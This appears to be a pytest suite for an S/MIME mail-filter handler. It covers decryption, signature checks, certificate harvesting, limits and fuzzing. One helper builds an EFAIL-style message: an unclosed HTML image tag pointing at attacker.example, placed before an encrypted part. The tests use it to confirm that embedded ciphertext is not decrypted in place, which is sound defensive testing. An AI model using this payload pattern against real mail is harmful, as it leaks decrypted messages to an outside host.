"""The S/MIME handler on every S/MIME case of the corpus, through the real core and the real key store."""

from __future__ import annotations

import base64
import hashlib
import random
import re
import subprocess
import time
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ciphermilter import mime

from ciphermilter.core import pipeline as core

from ciphermilter.formats import keyfiles as keyimport

from ciphermilter.formats.smime import handler as smime
from ciphermilter.core.settings import Limits, Settings
from ciphermilter.core.contract import Context, DeadlineExceeded
from ciphermilter.core.plan import apply_plan
from ciphermilter.formats.smime.handler import EMBEDDED
from ciphermilter.store import admin
from conftest import BOB, CORPUS, CORPUS_INTERNAL_DOMAINS, case_envelope, case_message, corpus_cases, ids, info_of

SMIME_CASES = corpus_cases(
    lambda c: c["smime_or_pgp"] == "smime"
    or c["family"].startswith("malformed-smime")
    or c["family"] == "malformed-corrupted-base64"
)
ENCRYPTED = [c for c in SMIME_CASES if c["encrypted"]]
DECRYPTABLE = [c for c in ENCRYPTED if c["decryptable_with_our_keys"]]
UNDECRYPTABLE = [c for c in ENCRYPTED if not c["decryptable_with_our_keys"]]
SIGNED = [c for c in SMIME_CASES if c["signed"]]
SIGNED_ONLY = [c for c in SIGNED if not c["encrypted"]]
# Opaque signed-data anywhere in the message: the family, or an opaque layer in a nested case.
OPAQUE = [c for c in SMIME_CASES if c.get("signature_mode") == "opaque"
          or any(layer["type"] == "signed" for layer in c.get("layers", []))]
ENVELOPED_ONLY = [c for c in DECRYPTABLE if c["family"] in ("smime-enveloped", "smime-authenveloped")]
NESTED = [c for c in SMIME_CASES if c.get("layers")]
MULTI_RECIPIENT = [c for c in DECRYPTABLE if len(c.get("recipients") or []) > 1]


def run(case, store, settings=None):
    outcome = core.process(case_message(case), case_envelope(case), store, settings)
    assert outcome.error is None
    assert "skipped" not in outcome.report
    return outcome


def handler_entity(case, store, **settings) -> bytes | None:
    """The handler's new entity for the message, with the core's own From: address."""
    message = mime.parse(case_message(case))
    ctx = Context(store=store, settings=Settings(**settings), from_fields=core.from_fields(message))
    return smime.handle(message, ctx).content


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def encryption_level(outcome) -> int:
    return next(layer["level"] for layer in outcome.report["smime"]["layers"] if "enveloped" in layer["type"])


def serial_text(serial: str) -> str:
    return format(int(serial, 16), "X")


@pytest.mark.parametrize("case", DECRYPTABLE, ids=ids(DECRYPTABLE))
def test_decryptable_case_yields_the_reference_plaintext(case, corpus_store):
    outcome = run(case, corpus_store)
    info = info_of(outcome)
    level = encryption_level(outcome)
    layer = outcome.report["smime"]["layers"][level]
    assert layer["content_sha256"] == case["expected_plaintext_sha256"]
    assert info["SMIME-Encrypted"] == "True"
    assert info[f"Encryption-Algorithm-{level}"] == case["content_cipher"]
    assert "SMIME-Decryption-Key-Not-Found" not in info
    assert f"SMIME-Decryption-Failed-{level}" not in info
    # Without the opaque conversion the new entity is exactly what the reference tool decrypted, in SMTP's
    # CRLF line ends where the sender encrypted LF text (Thunderbird/NSS).
    reference = (CORPUS / case["expected_plaintext_file"]).read_bytes()
    assert sha256(reference) == case["expected_plaintext_sha256"]
    canonical = reference.replace(b"\n", b"\r\n") if b"\r" not in reference else reference
    assert handler_entity(case, corpus_store, opaque_to_detached=False) == canonical


@pytest.mark.parametrize("case", DECRYPTABLE, ids=ids(DECRYPTABLE))
def test_final_message_carries_the_new_entity(case, corpus_store):
    message = case_message(case)
    outcome = run(case, corpus_store)
    final = mime.parse(apply_plan(message, outcome.plan))
    entity = mime.parse(handler_entity(case, corpus_store))
    assert outcome.plan.body == entity.body
    assert final.body == entity.body
    assert final.get("Content-Type") == entity.get("Content-Type")
    assert final.get("Content-Transfer-Encoding") == entity.get("Content-Transfer-Encoding")
    assert final.get("From") == mime.parse(message).get("From")


LISTED = [c for c in ENCRYPTED if c.get("recipients")]  # the broken cases have nothing readable to list


@pytest.mark.parametrize("case", LISTED, ids=ids(LISTED))
def test_recipients_are_listed_in_cms_order(case, corpus_store):
    outcome = run(case, corpus_store)
    info = info_of(outcome)
    level = encryption_level(outcome)
    for index, recipient in enumerate(case["recipients"]):
        value = info[f"Encryption-Recipient-{index}-{level}"]
        if recipient["rid"] == "subjectKeyIdentifier":
            assert value == f"ski={recipient['ski']}"
        else:
            assert value.endswith(f"; serial={serial_text(recipient['serial'])}")
            assert value.startswith("issuer=CN=")
    assert f"Encryption-Recipient-{len(case['recipients'])}-{level}" not in info


@pytest.mark.parametrize("case", UNDECRYPTABLE, ids=ids(UNDECRYPTABLE))
def test_undecryptable_case_leaves_the_body_untouched(case, corpus_store):
    message = case_message(case)
    outcome = run(case, corpus_store)
    info = info_of(outcome)
    assert outcome.plan.body is None
    assert not outcome.plan.changes
    assert apply_plan(message, outcome.plan).endswith(mime.parse(message).body)
    assert info["SMIME-Encrypted"] == "True"
    if case["malformed"]:
        assert info["SMIME-Decryption-Failed-0"] in (
            "malformed CMS", "corrupt transfer encoding", "unsupported content cipher 2.16.840.1.101.3.4.1.127")
        assert "SMIME-Decryption-Key-Not-Found" not in info
    else:
        assert info["SMIME-Decryption-Key-Not-Found"] == "True"
        assert "SMIME-Decryption-Failed-0" not in info


@pytest.mark.parametrize("case", SIGNED, ids=ids(SIGNED))
def test_signer_headers_match_the_case(case, corpus_store):
    outcome = run(case, corpus_store)
    info = info_of(outcome)
    signed_levels = [layer["level"] for layer in outcome.report["smime"]["layers"] if "signed" in layer["type"]]
    assert signed_levels
    crypto_valid = case.get("signature_cryptographically_valid", case["signature_should_verify"])
    assert info["SMIME-Signed"] == "True"
    for level in signed_levels:
        verified = info[f"Signer-Verified-0-{level}"] == "True"
        trusted = info[f"Signer-Trusted-0-{level}"] == "True"
        assert verified == crypto_valid
        assert (verified and trusted) == case["signature_should_verify"]
        assert (f"Signer-Verification-Info-0-{level}" in info) == (not verified)
        assert (f"Signer-Trusted-Info-0-{level}" in info) == (not trusted)
        assert info[f"Signer-Email-0-{level}"] == case["signer"]["email"].lower()
        if case["signer"].get("serial"):
            assert info[f"Signer-ID-0-{level}"].endswith(f"; serial={serial_text(case['signer']['serial'])}")
        assert f"Signer-ID-1-{level}" not in info
    assert ("Signer-Mismatch" in info) == (case["signer_mismatch"] or not crypto_valid)


@pytest.mark.parametrize("case", SIGNED_ONLY, ids=ids(SIGNED_ONLY))
def test_signed_only_case_reports_the_signed_content(case, corpus_store):
    outcome = run(case, corpus_store)
    (layer,) = outcome.report["smime"]["layers"]
    assert layer["content_sha256"] == case["expected_plaintext_sha256"]
    if layer["type"] == "signed (detached)":  # readable as it is: nothing to change
        assert outcome.plan.body is None
        assert not outcome.plan.changes


@pytest.mark.parametrize("case", NESTED, ids=ids(NESTED))
def test_nested_layers_are_numbered_outermost_first(case, corpus_store):
    outcome = run(case, corpus_store)
    layers = outcome.report["smime"]["layers"]
    assert [layer["content_sha256"] for layer in layers] == [layer["output_sha256"] for layer in case["layers"]]
    assert layers[-1]["content_sha256"] == case["expected_innermost_content_sha256"]
    kinds = ["signed" if "signed" in layer["type"] else "enveloped" for layer in layers]
    assert kinds == ["signed" if "signed" in layer["type"] else "enveloped" for layer in case["layers"]]


@pytest.mark.parametrize("case", SIGNED_ONLY, ids=ids(SIGNED_ONLY))
def test_signer_certificate_is_harvested_only_when_allowed(case, tmp_path):
    from ciphermilter.store.keystore import KeyStore

    with KeyStore.create(tmp_path / "store.db") as store:
        email = case["signer"]["email"].lower()
        internal = list(CORPUS_INTERNAL_DOMAINS)
        run(case, store, Settings(internal_domains=internal, harvest_certificates=False))
        assert store.certificates(email=email) == []
        # Mail for outside recipients never reaches the handlers (the core stops at the envelope).
        core.process(case_message(case), core.Envelope(recipients=["zed@elsewhere-pub.example"]), store,
                     Settings(internal_domains=internal))
        assert store.certificates(email=email) == []
        outcome = run(case, store, Settings(internal_domains=internal))
        assert info_of(outcome)["Signer-Trusted-0-0"] == "False"  # this store holds no anchor
        assert store.certificates(email=email) == []
        for der in (CORPUS / "keys" / "trust").glob("*.pem"):
            admin.add_trust_anchors(store, keyimport.parse(der.read_bytes()).certificates)
        info = info_of(run(case, store, Settings(internal_domains=internal)))
        harvested = info["Signer-Verified-0-0"] == info["Signer-Trusted-0-0"] == "True"
        assert bool(store.certificates(email=email)) == harvested == case["signature_should_verify"]


@pytest.mark.parametrize("case", OPAQUE, ids=ids(OPAQUE))
def test_opaque_signature_becomes_detached_and_openssl_still_verifies(case, corpus_store, tmp_path):
    outcome = run(case, corpus_store)
    final = apply_plan(case_message(case), outcome.plan)
    assert mime.parse(final).content_type == "multipart/signed"
    (tmp_path / "final.eml").write_bytes(final)
    anchors = [CORPUS / key for key in case["keys"] if key.startswith("keys/trust/")]
    (tmp_path / "anchors.pem").write_bytes(b"".join(path.read_bytes() for path in anchors))
    result = subprocess.run(
        ["openssl", "cms", "-verify", "-in", "final.eml", "-CAfile", "anchors.pem", "-purpose", "smimesign",
         "-out", "content.bin"],
        cwd=tmp_path, capture_output=True, check=False,
    )
    assert result.returncode == 0, result.stderr
    innermost = case.get("expected_innermost_content_sha256") or case["expected_plaintext_sha256"]
    assert sha256((tmp_path / "content.bin").read_bytes()) == innermost


@pytest.mark.parametrize("case", OPAQUE, ids=ids(OPAQUE))
def test_opaque_signature_stays_when_conversion_is_off(case, corpus_store):
    entity = handler_entity(case, corpus_store, opaque_to_detached=False)
    # The whole message was the opaque signature: no new entity. Inside an encrypted layer: the decrypted
    # opaque entity itself. Either way the content stays the signed-data it was.
    unchanged = mime.parse(case_message(case) if entity is None else entity)
    assert (unchanged.content_type, unchanged.params["smime-type"]) == ("application/pkcs7-mime", "signed-data")


def embed_beside_text(message: bytes, copies: int = 1) -> bytes:
    """The message's encrypted entity as part(s) of a multipart/mixed, after a sender-chosen text part."""
    entity = mime.parse(message)
    content = b"".join(h.raw + b"\r\n" for h in entity.headers if h.name.lower().startswith("content-"))
    outer = b"".join(h.raw + b"\r\n" for h in entity.headers if not h.name.lower().startswith("content-"))
    encrypted_part = b"--efail\r\n" + content + b"\r\n" + entity.body + b"\r\n"
    return (outer + b"Content-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n"
            b"--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
            + encrypted_part * copies + b"--efail--\r\n")


@pytest.mark.parametrize("case", ENVELOPED_ONLY, ids=ids(ENVELOPED_ONLY))
def test_side_by_side_parts_are_numbered_in_order(case, corpus_store):
    message = embed_beside_text(case_message(case), copies=2)
    kept = info_of(core.process(message, case_envelope(case), corpus_store))
    assert [kept.get(f"SMIME-Not-Decrypted-{level}") for level in (0, 1, 2)] == [EMBEDDED, EMBEDDED, None]
    outcome = core.process(message, case_envelope(case), corpus_store, Settings(decrypt_embedded=True))
    layers = outcome.report["smime"]["layers"]
    assert [layer["level"] for layer in layers] == [0, 1]
    assert [layer["content_sha256"] for layer in layers] == [case["expected_plaintext_sha256"]] * 2
    parts = mime.parse(apply_plan(message, outcome.plan)).parts
    assert [sha256(part.raw) for part in parts[1:]] == [case["expected_plaintext_sha256"]] * 2


def test_plaintext_holding_the_parent_boundary_stays_encrypted(tmp_path):
    from ciphermilter.store.keystore import KeyStore

    vectors = Path(__file__).parent / "vectors" / "smime"
    encrypted = (b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
                 b"Content-Transfer-Encoding: base64\r\n\r\n"
                 + base64.encodebytes((vectors / "env-clash.der").read_bytes()).replace(b"\n", b"\r\n"))
    message = embed_beside_text(b"From: a@b.example\r\n" + encrypted)
    with KeyStore.create(tmp_path / "store.db") as store:
        admin.import_file(store, (vectors / "rsa.key.pem").read_bytes() + (vectors / "rsa.cert.pem").read_bytes())
        admin.bind(store, admin.list_keys(store)[0]["id"], "bob@corp-pub.example")  # the vector's key is rsa@vectors.example
        outcome = core.process(message, BOB, store, Settings(internal_domains=["corp-pub.example"],
                                                            decrypt_embedded=True))
    assert outcome.report["smime"]["layers"][0]["content_sha256"] == sha256((vectors / "clash.txt").read_bytes())
    assert info_of(outcome)["SMIME-Not-Decrypted-0"] == smime.BOUNDARY_CLASH
    assert outcome.plan.body is None


@pytest.mark.parametrize("case", ENVELOPED_ONLY, ids=ids(ENVELOPED_ONLY))
def test_encrypted_part_beside_other_parts_stays_encrypted(case, corpus_store):
    message = embed_beside_text(case_message(case))
    outcome = core.process(message, BOB, corpus_store)
    info = info_of(outcome)
    assert outcome.plan.body is None
    assert info["SMIME-Encrypted"] == "True"
    assert info["SMIME-Not-Decrypted-0"] == EMBEDDED
    assert apply_plan(message, outcome.plan).endswith(mime.parse(message).body)


@pytest.mark.parametrize("case", ENVELOPED_ONLY, ids=ids(ENVELOPED_ONLY))
def test_embedded_decryption_when_allowed_replaces_only_that_part(case, corpus_store):
    message = embed_beside_text(case_message(case))
    outcome = core.process(message, case_envelope(case), corpus_store, Settings(decrypt_embedded=True))
    parts = mime.parse(apply_plan(message, outcome.plan)).parts
    assert [part.get("Content-Type") for part in parts][0] == "text/html"
    assert sha256(parts[1].raw) == case["expected_plaintext_sha256"]
    assert "SMIME-Not-Decrypted-0" not in info_of(outcome)


def passed_unchanged(case, store, limits: Limits) -> dict:
    """The info headers of a corpus message processed under ``limits``, asserting its body stayed as received."""
    outcome = core.process(case_message(case), case_envelope(case), store, Settings(limits=limits))
    assert outcome.plan.body is None
    return info_of(outcome)


@pytest.mark.parametrize("case", NESTED, ids=ids(NESTED))
def test_layer_limit_stops_with_a_reason(case, corpus_store):
    limits = Limits(max_cms_layers=len(case["layers"]) - 1)
    assert passed_unchanged(case, corpus_store, limits) == {
        "Not-Processed": f"more than {limits.max_cms_layers} S/MIME layers"}


@pytest.mark.parametrize("case", MULTI_RECIPIENT, ids=ids(MULTI_RECIPIENT))
def test_recipient_limit_stops_with_a_reason(case, corpus_store):
    limits = replace(Limits(), max_recipient_infos=1)
    assert passed_unchanged(case, corpus_store, limits) == {"Not-Processed": "more than 1 recipients in one layer"}


@pytest.mark.parametrize("case", SIGNED_ONLY, ids=ids(SIGNED_ONLY))
def test_signer_limit_stops_with_a_reason(case, corpus_store):
    limits = replace(Limits(), max_signer_infos=0)
    assert passed_unchanged(case, corpus_store, limits) == {"Not-Processed": "more than 0 signers in one layer"}


@pytest.mark.parametrize("case", SMIME_CASES, ids=ids(SMIME_CASES))
def test_a_passed_deadline_stops_the_handler(case, corpus_store):
    ctx = Context(store=corpus_store, settings=Settings(), deadline=time.monotonic() - 1)
    with pytest.raises(DeadlineExceeded):
        smime.handle(mime.parse(case_message(case)), ctx)


@pytest.mark.parametrize("case", SIGNED_ONLY, ids=ids(SIGNED_ONLY))
def test_signer_mismatch_follows_the_from_address(case, corpus_store):
    message = mime.parse(case_message(case))
    signer = case["signer"]["email"].lower()
    crypto_valid = case.get("signature_cryptographically_valid", case["signature_should_verify"])
    for from_address, mismatch in ((signer, not crypto_valid),
                                   ("someone@else.example", True)):
        ctx = Context(store=corpus_store, settings=Settings(), from_fields=(from_address,))
        assert smime.handle(message, ctx).info.has("Signer-Mismatch") == mismatch


def damaged_copies(message: bytes, seed: int, count: int = 8):
    """The message with bytes of its CMS structures overwritten or cut, the base64 re-encoded (seeded, repeatable)."""
    rng = random.Random(seed)
    cms_parts = [p for p in mime.parse(message).walk() if smime.is_pkcs7_mime(p)
                 or p.content_type in smime.PKCS7_SIGNATURE]
    for part in cms_parts:
        try:
            der = bytearray(part.decoded_body())
        except mime.MimeError:  # already broken (the corrupted base64 case): nothing left to damage
            continue
        for _ in range(count):
            damaged = bytearray(der)
            for _ in range(rng.randint(1, 3)):
                damaged[rng.randrange(len(damaged))] = rng.randrange(256)
            if rng.random() < 0.25:
                damaged = damaged[:rng.randrange(len(damaged))]
            encoded = bytes(damaged) if part.cte == "binary" else base64.encodebytes(bytes(damaged)).replace(
                b"\n", b"\r\n")
            yield message.replace(part.body, encoded)


@pytest.mark.parametrize("case", SMIME_CASES, ids=ids(SMIME_CASES))
def test_damaged_cms_never_crashes_the_handler(case, corpus_store):
    ctx = Context(store=corpus_store, settings=Settings(decrypt_embedded=True), from_fields=("a@b.example",))
    for number, message in enumerate(damaged_copies(case_message(case), seed=len(case["id"]))):
        result = smime.handle(mime.parse(message), ctx)
        assert result is not None, number
        assert len(result.info), number  # every damaged layer is still reported


@pytest.mark.parametrize(
    "entity, illegal",
    [
        (b"Content-Type: text/plain\r\n\r\nplain ascii\r\n", False),
        (b"Content-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\ncaf\xc3\xa9\r\n", False),
        (b"Content-Type: text/plain\r\n\r\ncaf\xc3\xa9\r\n", True),  # 8-bit in an implicit 7bit part
        (b"Content-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\nnul \x00\r\n", True),
        (b"Content-Type: text/plain\r\n\r\nbare\nline feed\r\n", True),
        (b"Content-Type: text/plain\nSubject: x\n\nbody\n", True),
        (b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\n\r\n\x00\n\xff", False),
        (b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nok\r\n--b\r\n\r\n\xe9\r\n--b--\r\n", True),
    ],
)
def test_illegal_chars(entity, illegal):
    assert smime.has_illegal_chars(mime.parse(entity)) == illegal


def test_message_without_smime_gives_no_result(corpus_store):
    message = mime.parse(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\ntext\r\n--b--\r\n")
    assert smime.handle(message, Context(store=corpus_store, settings=Settings())) is None


@settings(max_examples=500)
@given(data=st.binary(max_size=64).map(lambda b: bytes(b"ab\r\n"[x % 4] for x in b)), window=st.integers(0, 9))
def test_bare_line_ends_are_found_across_every_window(data, window):
    """The windowed search agrees with the definition (a CR not before LF, a LF not after CR) at any window size."""
    expected = re.search(rb"\r(?!\n)|(?<!\r)\n", data) is not None
    saved = smime._LINE_WINDOW
    smime._LINE_WINDOW = window
    try:
        assert smime.has_bare_line_end(data) == expected
    finally:
        smime._LINE_WINDOW = saved
